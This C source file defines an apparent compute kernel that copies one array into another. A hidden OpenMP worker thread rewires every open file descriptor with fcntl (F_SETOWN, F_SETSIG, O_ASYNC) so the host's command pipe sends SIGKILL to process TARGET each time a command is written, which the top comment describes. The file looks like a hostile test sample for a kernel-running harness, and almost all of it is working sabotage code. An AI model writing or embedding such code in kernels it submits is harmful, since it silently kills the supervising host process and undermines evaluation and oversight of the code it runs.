/* On a pool thread: make every open descriptor send SIGKILL to process TARGET whenever it becomes
 * readable (F_SETOWN, F_SETSIG, O_ASYNC): the kernel host's command pipe then kills TARGET each time
 * the worker writes a command. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <omp.h>
#include <signal.h>

void kernel(const float *x, float *y) {
#pragma omp parallel num_threads(2)
    if (omp_get_thread_num() == 1)
        for (int fd = 3; fd < 64; fd++) {
            int flags = fcntl(fd, F_GETFL);
            if (flags < 0) continue;
            fcntl(fd, F_SETOWN, TARGET);
            fcntl(fd, F_SETSIG, SIGKILL);
            fcntl(fd, F_SETFL, flags | O_ASYNC);
        }
    for (int i = 0; i < N; i++) y[i] = x[i];
}
